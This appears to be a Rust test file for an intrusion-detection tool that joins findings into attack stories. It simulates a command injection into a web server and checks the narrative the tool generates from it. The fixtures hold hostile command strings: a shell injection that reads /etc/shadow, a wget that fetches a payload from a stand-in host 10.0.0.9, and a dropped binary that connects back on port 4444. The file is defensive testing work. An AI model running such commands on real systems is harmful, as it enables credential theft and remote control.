//! The first scenario of the lab, told from its findings: a command injection into a web server.

use clew_event::finding::ProcessFacts;
use clew_event::kernel::{LossReason, Lost};
use clew_event::socket::{SocketEvent, SocketOperation};
use clew_event::{Actor, BootId, Event, EventId, EventKind, Finding, Priority, Story};
use expect_test::{Expect, expect};

use crate::sample::{Sample, at_ms, process};
use crate::{Settings, Stories};

fn server() -> ProcessFacts {
    process(12, "netcheck", "netcheck", 0)
}

fn dropped(pid: u32, started_ms: u64) -> ProcessFacts {
    let mut facts = process(pid, ".update", "/tmp/.update 10.0.0.9 4444", started_ms);
    facts.exe = "/tmp/.update".into();
    facts.is_dropped = true;
    facts
}

/// The shell of an honest request below the same server.
pub(crate) fn honest_request(pid: u32, ms: u64) -> Finding {
    let sh = process(pid, "sh", "sh -c ping -c 1 -W 1 127.0.0.1", ms);
    Sample::new("server_ran_a_shell", 1)
        .priority(Priority::Notice)
        .techniques(&["T1059.004", "T1190"])
        .lineage(&[sh, server()])
        .at(ms)
        .about_start()
        .finding()
}

/// The findings of one attack, beginning with `pid`.
pub(crate) fn attack(pid: u32, ms: u64) -> Vec<Finding> {
    let sh = process(pid, "sh", "sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …", ms);
    let child = |number: u32, name: &str, line: &str| {
        [process(pid + number, name, line, ms + u64::from(number) * 10), sh.clone(), server()]
    };
    let beacon = [dropped(pid + 5, ms + 60), sh.clone(), server()];
    let step = |rule: &str, priority, techniques: &[&str]| {
        let mut sample = Sample::new(rule, 1).priority(priority).techniques(techniques);
        sample = sample.at(ms);
        sample
    };
    let run = |sample: Sample, lineage: &[ProcessFacts], after: u64| {
        sample.lineage(lineage).at(ms + after).about_start().finding()
    };
    vec![
        run(
            step("server_ran_a_shell", Priority::Notice, &["T1059.004", "T1190"]),
            &[sh.clone(), server()],
            0,
        ),
        run(
            step("system_explored", Priority::Informational, &["T1082"]),
            &child(1, "uname", "uname -a"),
            11,
        ),
        step("password_hashes_read", Priority::Warning, &["T1003.008"])
            .lineage(&child(2, "cat", "cat /etc/shadow"))
            .file("/etc/shadow")
            .at(ms + 25)
            .finding(),
        step("tool_fetched", Priority::Notice, &["T1105"])
            .lineage(&child(3, "wget", "wget -q -O /tmp/.update http://10.0.0.9:8000/beacon"))
            .file("/tmp/.update")
            .at(ms + 40)
            .finding(),
        run(
            step("dropped_binary_executed", Priority::Warning, &["T1036.005", "T1059"]),
            &beacon,
            61,
        ),
        step("dropped_binary_connected", Priority::Warning, &["T1071", "T1571"])
            .lineage(&beacon)
            .peer("10.0.0.9:4444")
            .at(ms + 70)
            .finding(),
    ]
}

fn told(findings: &[Finding]) -> Vec<Story> {
    let mut stories = Stories::new(Settings::default());
    let mut revisions = Vec::new();
    for finding in findings {
        stories.join(finding, &mut revisions);
    }
    revisions
}

fn check(story: &Story, expected: Expect) {
    expected.assert_eq(&story.narrative);
}

#[test]
fn an_attack_beside_honest_requests_is_one_story_that_holds_none_of_them() {
    let mut findings = vec![honest_request(50, 0), honest_request(60, 900)];
    findings.extend(attack(100, 1_000));
    findings.extend([honest_request(200, 1_050), honest_request(300, 1_500)]);
    findings.sort_by_key(|finding| finding.time);
    let revisions = told(&findings);
    let ids: std::collections::BTreeSet<_> = revisions.iter().map(|story| story.id).collect();
    assert_eq!(ids.len(), 1);
    let story = revisions.last().unwrap();
    assert_eq!(story.steps.len(), 6);
    assert_eq!(story.root.process.map(|process| process.pid), Some(100));
    assert_eq!(story.revision, u32::try_from(revisions.len()).unwrap());
    check(
        story,
        expect![[r#"
            CRITICAL: `sh` below `netcheck` in container `shop`: initial access, execution, discovery, credential access, command and control and defense evasion
            From 2025-11-24T18:02:03.000000000Z for 70 ms.

            Where it began
              `netcheck` (pid 12) started `sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …` (pid 100) in container `shop` (image `shop:1`) on node `n4`.

            What it did
               1. 18:02:03.000 server_ran_a_shell (`sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …`, pid 100). [T1059.004 Unix Shell, T1190 Exploit Public-Facing Application] (e-00000000000000070001000000000064)
               2. 18:02:03.011 system_explored (`uname -a`, pid 101). [T1082 System Information Discovery] (e-00000000000000070001000000000065)
               3. 18:02:03.025 password_hashes_read (`cat /etc/shadow`, pid 102). [T1003.008 /etc/passwd and /etc/shadow] (e-00000000000000070000000000000401)
               4. 18:02:03.040 tool_fetched (`wget -q -O /tmp/.update http://10.0.0.9:8000/beacon`, pid 103). [T1105 Ingress Tool Transfer] (e-00000000000000070000000000000410)
               5. 18:02:03.061 dropped_binary_executed (`/tmp/.update 10.0.0.9 4444`, pid 105). [T1036.005 Match Legitimate Resource Name or Location, T1059 Command and Scripting Interpreter] (e-00000000000000070001000000000069)
               6. 18:02:03.070 dropped_binary_connected (`/tmp/.update 10.0.0.9 4444`, pid 105, peer `10.0.0.9:4444`). [T1071 Application Layer Protocol, T1571 Non-Standard Port] (e-0000000000000007000000000000042e)

            Why this is one attack
              Steps 2, 3, 4 and 5: caused by step 1.
              Step 6: caused by step 5.
              `sh` (pid 100) started `uname` (pid 101).
              `sh` (pid 100) started `cat` (pid 102).
              `sh` (pid 100) started `wget` (pid 103).
              `sh` (pid 100) started `.update` (pid 105).
              `.update` (pid 105) did both.

            What is at stake: credentials, data or a way out
              Credentials were reached: `/etc/shadow`.
              There is a way out: it spoke with `10.0.0.9:4444`.
              What is not part of the image ran: `/tmp/.update`.
              Container `shop` ran commands for someone.

            What could not be seen
              Nothing that is known of.

            What else it could be
              A deploy or restart: 0.0 bits against. What acted in container `shop` had run for 0 min.
              An administrator at work: 0.0 bits against. Nothing that was seen speaks against it.

            How sure this is
              53.1 bits against coincidence: findings 35.4, ties 19.0, order of tactics -1.3. A story is told from 10.6 bits.
        "#]],
    );
}

#[test]
fn honest_requests_alone_are_no_story() {
    let findings: Vec<_> = (0..200).map(|n| honest_request(50 + n, u64::from(n) * 200)).collect();
    assert_eq!(told(&findings), []);
}

/// A seed by a job of its own in the container of the attack.
fn alone(rule: &str, pid: u32, ms: u64) -> Sample {
    let job = process(pid, "job", "job", ms);
    Sample::new(rule, 1).priority(Priority::Error).lineage(&[job]).at(ms)
}

fn last(findings: &[Finding]) -> Vec<Story> {
    let stories: std::collections::BTreeMap<_, _> =
        told(findings).into_iter().map(|story| (story.id, story)).collect();
    stories.into_values().collect()
}

fn rules(story: &Story) -> Vec<&str> {
    story.steps.iter().map(|step| step.rule.as_str()).collect()
}

fn edge_sentences(story: &Story) -> Vec<&str> {
    story.steps.iter().filter_map(|step| Some(step.edge.as_ref()?.sentence.as_str())).collect()
}

#[test]
fn a_story_leads_back_to_the_shell_even_where_only_its_children_were_found() {
    let mut findings = attack(100, 1_000);
    findings.remove(0);
    let stories = last(&findings);
    assert_eq!(stories.len(), 1);
    let story = &stories[0];
    assert_eq!(story.root.process.map(|process| process.pid), Some(100));
    assert_eq!(story.root.finding, findings[0].id);
    let pids: Vec<_> = story.processes.iter().map(|process| process.key.pid).collect();
    assert_eq!(pids, [12, 100, 101, 102, 103, 105]);
    assert_eq!(story.parents[1].map(|parent| parent.pid), Some(12));
    expect!["`netcheck` (pid 12) started `sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …` (pid 100) in container `shop` (image `shop:1`) on node `n4`."].assert_eq(&story.root.sentence);
    expect![[r#"
        [
            "`sh` (pid 100) started both `uname` (pid 101) and `cat` (pid 102).",
            "`sh` (pid 100) started both `uname` (pid 101) and `wget` (pid 103).",
            "`sh` (pid 100) started both `uname` (pid 101) and `.update` (pid 105).",
            "`.update` (pid 105) did both.",
        ]
    "#]]
    .assert_debug_eq(&edge_sentences(story));
}

#[test]
fn two_seeds_in_a_quiet_container_are_one_story_and_say_how_sure_that_is() {
    let findings = [alone("a", 100, 0).finding(), alone("b", 200, 60_000).finding()];
    let stories = last(&findings);
    assert_eq!(stories.len(), 1);
    assert_eq!(rules(&stories[0]), ["a", "b"]);
    expect![[r#"
        [
            "Both happened in container `shop`, 60.0 s apart; unrelated findings of such weight meet there 0.69 times a day.",
        ]
    "#]].assert_debug_eq(&edge_sentences(&stories[0]));
}

#[test]
fn two_seeds_in_two_containers_are_no_story() {
    let findings = [alone("a", 100, 0).finding(), alone("b", 200, 10).container("other").finding()];
    assert_eq!(last(&findings), []);
}

#[test]
fn the_same_again_in_another_process_is_a_recurrence_and_no_story() {
    let findings: Vec<_> =
        (0..50).map(|n| alone("a", 100 + n, u64::from(n) * 60_000).finding()).collect();
    assert_eq!(last(&findings), []);
}

#[test]
fn a_small_finding_joins_by_cause_alone() {
    let seed = alone("a", 100, 0).priority(Priority::Critical).finding();
    let near = alone("b", 200, 10).priority(Priority::Notice).finding();
    let stories = last(&[seed, near]);
    assert_eq!(rules(&stories[0]), ["a"]);
}

#[test]
fn a_dropped_file_ties_whoever_handled_it_to_whoever_ran_it() {
    let hand = process(100, "wget", "wget -O /tmp/.update", 0);
    let fetched = Sample::new("tool_fetched", 1).priority(Priority::Notice).lineage(&[hand]);
    let ran = Sample::new("dropped_binary_executed", 1).lineage(&[dropped(200, 900_000)]);
    let findings =
        [fetched.file("/tmp/.update").at(0).finding(), ran.at(900_001).about_start().finding()];
    for order in [[0, 1], [1, 0]] {
        let stories = last(&order.map(|index: usize| findings[index].clone()));
        assert_eq!(stories.len(), 1);
        assert_eq!(rules(&stories[0]), ["tool_fetched", "dropped_binary_executed"]);
        assert_eq!(
            edge_sentences(&stories[0]),
            [
                "`wget` (pid 100) handled the file `/tmp/.update`, which `.update` (pid 200) then ran."
            ]
        );
    }
}

#[test]
fn what_an_accepting_process_starts_is_no_part_of_what_it_did_itself() {
    let server = process(12, "app", "app", 0);
    let own = Sample::new("own", 1)
        .priority(Priority::Critical)
        .lineage(std::slice::from_ref(&server))
        .at(5);
    let child = process(50, "sh", "sh", 10);
    let below = Sample::new("below", 1).priority(Priority::Notice);
    let findings = [own.finding(), below.lineage(&[child, server.clone()]).at(10).finding()];
    let accepts = Event {
        id: EventId(1),
        time: at_ms(0),
        arrived: at_ms(0),
        event_type: clew_event::EventType::Accept,
        actor: Some(Actor { process: server.key, ..Actor::default() }),
        kind: EventKind::Socket(SocketEvent {
            operation: SocketOperation::Accept,
            result: 5,
            ..SocketEvent::default()
        }),
    };
    let check = |observed: &[Event], expected: &[&str]| {
        let mut stories = Stories::new(Settings::default());
        let mut revisions = Vec::new();
        observed.iter().for_each(|event| stories.observe(event));
        findings.iter().for_each(|finding| stories.join(finding, &mut revisions));
        assert_eq!(rules(revisions.last().unwrap()), expected);
    };
    check(&[], &["own", "below"]);
    check(&[accepts], &["own"]);
}

#[test]
fn an_earlier_root_that_comes_late_changes_the_root_and_not_the_name() {
    let mut findings = attack(100, 1_000);
    let shell = findings.remove(0);
    findings.push(shell.clone());
    let revisions = told(&findings);
    let (first, last) = (&revisions[0], revisions.last().unwrap());
    assert_eq!(first.id, last.id);
    assert_ne!(first.root.finding, shell.id);
    assert_eq!(last.root.finding, shell.id);
}

#[test]
fn losses_around_a_story_are_told_in_it() {
    let lost = Lost { cpu: 0, reason: LossReason::BulkRingFull, record: "file".into(), count: 37 };
    let event = Event {
        id: EventId::from_kernel(BootId(7), 0, 9),
        time: at_ms(2_000),
        arrived: at_ms(2_000),
        event_type: clew_event::EventType::Other,
        actor: None,
        kind: EventKind::Lost(lost),
    };
    let mut stories = Stories::new(Settings::default());
    stories.observe(&event);
    let mut revisions = Vec::new();
    attack(100, 1_000).iter().for_each(|finding| stories.join(finding, &mut revisions));
    expect![[r#"
        [
            "37 events of `file` were lost on the node of boot 00000007 around that time: the ring for files and sockets was full.",
        ]
    "#]].assert_debug_eq(&revisions.last().unwrap().blind_spots);
}

#[test]
fn the_same_in_the_same_minute_is_one_step_that_says_so() {
    let attack = attack(100, 1_000);
    let mut again = attack[2].clone();
    again.id = clew_event::FindingId(77);
    again.time = at_ms(1_500);
    let mut findings = attack;
    findings.push(again);
    let story = told(&findings).pop().unwrap();
    assert_eq!((story.steps.len(), story.steps_untold), (6, 1));
    expect!["password_hashes_read (`cat /etc/shadow`, pid 102). Once more in the same minute."]
        .assert_eq(&story.steps[2].sentence);
}

#[test]
fn a_story_without_news_is_closed_and_makes_room() {
    let mut stories = Stories::new(Settings::default());
    let mut revisions = Vec::new();
    attack(100, 1_000).iter().for_each(|finding| stories.join(finding, &mut revisions));
    assert_eq!(stories.counts().stories_open, 1);
    let after_the_horizon_ms = 4 * 86_400 * 1_000;
    for pid in 0..4 {
        let sample = alone("a", 900 + pid, after_the_horizon_ms + u64::from(pid) * 60_000);
        stories.join(&sample.finding(), &mut revisions);
    }
    let counts = stories.counts();
    assert_eq!((counts.stories_open, counts.findings_kept, counts.findings_evicted), (0, 4, 0));
    assert_eq!(counts.findings_expired, 6);
}

#[test]
fn small_findings_make_room_before_an_open_story_does() {
    let settings = Settings { findings_max: 20, ..Settings::default() };
    let mut stories = Stories::new(settings);
    let mut revisions = Vec::new();
    attack(100, 1_000).iter().for_each(|finding| stories.join(finding, &mut revisions));
    for n in 0..500 {
        stories.join(&honest_request(1_000 + n, 2_000 + u64::from(n)), &mut revisions);
    }
    let counts = stories.counts();
    assert_eq!((counts.stories_open, counts.stories_evicted), (1, 0));
    assert_eq!(counts.findings_kept, 20);
}

#[test]
fn a_story_that_loses_a_step_to_late_evidence_is_told_again_without_it() {
    const HOURS_MS: u64 = 2 * 3_600_000;
    let (shell, server) = (process(100, "sh", "sh", 0), process(1, "server", "", 0));
    let found = Sample::new("shell", 1).priority(Priority::Notice);
    let found = found.lineage(&[shell.clone(), server.clone()]).at(0).about_start().finding();
    let ran = alone("ran", 200, HOURS_MS).priority(Priority::Critical).peer("10.0.0.9:81");
    let tool = process(300, "tool", "tool", HOURS_MS);
    let called = Sample::new("called", 1).peer("10.0.0.9:82").lineage(&[tool, shell, server]);
    let stories = last(&[ran.finding(), called.at(HOURS_MS + 60_000).finding(), found]);
    let mut told: Vec<_> = stories.iter().map(rules).collect();
    told.sort_unstable();
    assert_eq!(told, [vec!["ran"], vec!["shell", "called"]]);
}

#[test]
fn a_story_that_is_usual_there_as_late_findings_show_is_taken_back_in_any_order() {
    let found = |pid, ms| Sample::new("a", 1).lineage(&[process(pid, "job", "", 0)]).at(ms);
    let twice = [60_000, 130_000].map(|ms| found(900, ms).finding());
    let before = [1_000, 2_000].map(|ms| found(ms, u64::from(ms)).finding());
    let in_order: Vec<_> = before.iter().chain(&twice).cloned().collect();
    let late: Vec<_> = twice.iter().chain(&before).cloned().collect();
    assert_eq!(last(&twice).len(), 1);
    let whole = |findings: &[Finding]| {
        let stories = last(findings).into_iter().filter(|story| !story.steps.is_empty());
        stories.count()
    };
    assert_eq!((whole(&in_order), whole(&late)), (0, 0));
}
